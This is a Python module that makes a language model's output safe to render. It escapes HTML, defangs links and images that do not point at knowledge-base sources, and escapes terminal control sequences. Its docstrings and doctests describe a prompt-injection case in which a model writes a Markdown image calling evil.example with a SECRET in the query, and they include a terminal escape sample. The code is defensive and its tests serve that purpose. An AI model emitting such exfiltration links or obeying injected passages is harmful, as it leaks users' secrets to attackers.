"""Safe output (OWASP LLM02:2023, LLM05:2025): what a model writes is shown, never obeyed
or fetched.

:func:`safe_markdown` turns an answer into Markdown an app can render: HTML is shown as
text, and links and images stay links only when they point at a source of the knowledge
base (a file the answer's passages came from); any other link or image is shown as plain
text, with its address broken so no renderer turns it back into a link. An injected
passage that makes the model write ``![x](https://evil.example/?q=SECRET)`` therefore
leaks nothing: the image is never fetched and the link never clickable.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path

_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|file|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE = re.compile(r"\b((?:https?|ftp)://[^\s<>()\]]+|www\.[^\s<>()\]]+)", re.IGNORECASE)


def _escape_html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def defang(url: str) -> str:
    """An address as inert text: ``https://x.y/z`` → ``https[:]//x[.]y/z``.

    >>> defang("https://evil.example/?q=1")
    'hxxps[:]//evil[.]example/?q=1'
    """
    out = re.sub(r"^(h)tt(ps?)", r"\1xx\2", url, flags=re.IGNORECASE)
    out = re.sub(r"^([a-z][a-z0-9+.-]*):", r"\1[:]", out, flags=re.IGNORECASE)
    host_end = out.find("/", out.find("[:]//") + 5) if "[:]//" in out else -1
    if "[:]" in out and "[:]//" not in out:  # javascript:, data:, mailto: ...
        return out
    host = out[:host_end] if host_end > 0 else out
    return host.replace(".", "[.]") + (out[host_end:] if host_end > 0 else "")


def _allowed(url: str, sources: set[str]) -> bool:
    if not url:
        return False
    target = url.removeprefix("file://")
    return target in sources or target in {Path(s).name for s in sources}


def safe_markdown(text: str, sources: Iterable[str] = ()) -> str:
    """``text`` as Markdown safe to render; links to ``sources`` (file paths) are kept.

    >>> safe_markdown('<b>hi</b> ![x](https://evil.example/a.png?q=SECRET)')
    '&lt;b&gt;hi&lt;/b&gt; image x: hxxps[:]//evil[.]example/a.png?q=SECRET'
    >>> safe_markdown('see [the guide](/kb/docs/guide.md)', ['/kb/docs/guide.md'])
    'see [the guide](/kb/docs/guide.md)'
    """
    allowed = set(sources)
    kept: list[str] = []

    def link(m: re.Match[str]) -> str:
        bang, label, url = m.group(1), m.group(2), m.group(3)
        if not bang and _allowed(url, allowed):
            kept.append(f"[{label}]({url})")
            return f"\x00{len(kept) - 1}\x00"
        what = "image" if bang else "link"
        return f"{what} {label}: {defang(url)}" if label else f"{what}: {defang(url)}"

    out = _LINK.sub(link, text)
    out = _AUTOLINK.sub(lambda m: defang(m.group(1)), out)
    out = _BARE.sub(lambda m: defang(m.group(1)), out)
    out = _escape_html(out)
    out = re.sub(r"!\[", r"!\\[", out)  # any image syntax left over stays text
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], out)


#: characters a terminal obeys: C0 controls but tab and newline, DEL, C1 controls, and the
#: bidirectional overrides and isolates that reorder what is shown ("Trojan Source")
_TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def terminal_safe(text: str) -> str:
    """``text`` for a terminal: control characters (the ESC that starts colour, cursor and
    title sequences, carriage returns that overwrite a line, bidi overrides) are shown as
    escapes instead of obeyed, so a document cannot rewrite what the user sees.

    >>> terminal_safe("ok\\x1b[2J\\x1b]0;pwned\\x07 done\\n")
    'ok\\\\x1b[2J\\\\x1b]0;pwned\\\\x07 done\\n'
    """
    return _TERMINAL_CONTROL.sub(lambda m: f"\\x{ord(m[0]):02x}" if ord(m[0]) < 0x100
                                 else f"\\u{ord(m[0]):04x}", text)
